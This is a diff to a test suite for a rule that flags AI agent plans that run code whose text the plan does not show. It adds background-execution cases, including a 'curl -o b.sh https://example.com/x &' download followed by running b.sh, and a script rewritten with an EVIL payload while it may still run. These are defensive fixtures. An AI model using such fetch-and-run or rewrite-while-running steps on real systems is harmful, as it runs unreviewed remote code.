@@ -827,6 +827,11 @@ ruleTester("disallowed-tool", {
  */
 const tool = (name: string, args: Record<string, unknown>) => ({ tool: name, arguments: args, intent: "write" });
 const ikoma = (...list: { tool_name: string; args: Record<string, unknown> }[]) => JSON.stringify({ plan: list.map((s, i) => ({ step: i + 1, description: "d", ...s })), reasoning: "r" });
+const compound = () => {
+  const policy = defaultPolicy("/ws");
+  policy.commands.allowCompound = true;
+  return policy;
+};
 const unknownHow = (how: RegExp | string) => ({ messageId: "writtenUnknown", message: new RegExp(`without its text in the plan \\(${typeof how === "string" ? how : how.source}`) });
 
 ruleTester("disallowed-tool", {
@@ -848,6 +853,11 @@ ruleTester("disallowed-tool", {
     { name: "node -r of a package, npx of a package's binary", code: steps(write("a.test.ts", "x\n"), run("node -r dotenv/config server.js"), run("npx vitest run"), run("npx eslint .")) },
     { name: "the project's own remote pulled or fetched, then its scripts", code: steps(run("git pull"), run("git pull origin feature/x"), run("git fetch origin"), run("git checkout main"), run("./scripts/ci.sh"), run("npm test")) },
     { name: "files compressed or split into another folder, then a project script", code: steps(run("gzip -k log.txt"), run("split -l 10 data.txt parts/p"), run("./scripts/ci.sh")) },
+    {
+      name: "a script run in the background, then other files written and run",
+      code: steps(write("srv.sh", "echo serving\n"), run("./srv.sh &"), write("t.sh", "echo test\n"), run("./t.sh"), run("echo a >&2 && ls")),
+      options: { policy: compound() },
+    },
     {
       name: "an edit of a CR LF package.json, then npm install",
       code: steps(tool("Edit", { file_path: "package.json", old_string: '"dependencies": {}', new_string: '"dependencies": {"a": "1"}' }), run("npm install")),
@@ -935,6 +945,18 @@ ruleTester("disallowed-tool", {
       code: steps(run(command), run("git checkout FETCH_HEAD"), run("./scripts/ci.sh")),
       errors: [{ step: 3, ...unknownHow("written by a command line") }],
     })),
+    {
+      name: "a write by a command run in the background may land after a later write",
+      code: steps(run("sleep 5 && curl -o b.sh https://example.com/x &"), write("b.sh", "echo ok\n"), run("./b.sh")),
+      options: { policy: compound() },
+      errors: [{ step: 3, ...unknownHow("written by a command run in the background, which may write it after later steps") }],
+    },
+    {
+      name: "a script run in the background, written again while it may still run: the shell reads it as it goes",
+      code: steps(write("a.sh", "sleep 10\necho ok\n"), run("./a.sh &"), write("a.sh", `sleep 10\n${EVIL}`)),
+      options: { policy: compound() },
+      errors: [{ step: 2, ...unknownHow("written again by step 3 while this step's command may still be running it in the background") }],
+    },
     {
       name: "a local package the plan writes, run by npx or npm exec",
       code: steps(write("pkg/package.json", '{"name": "p", "bin": {"p": "cli.sh"}}'), write("pkg/cli.sh", EVIL), run("npx ./pkg"), run("npm exec --package=./pkg p")),
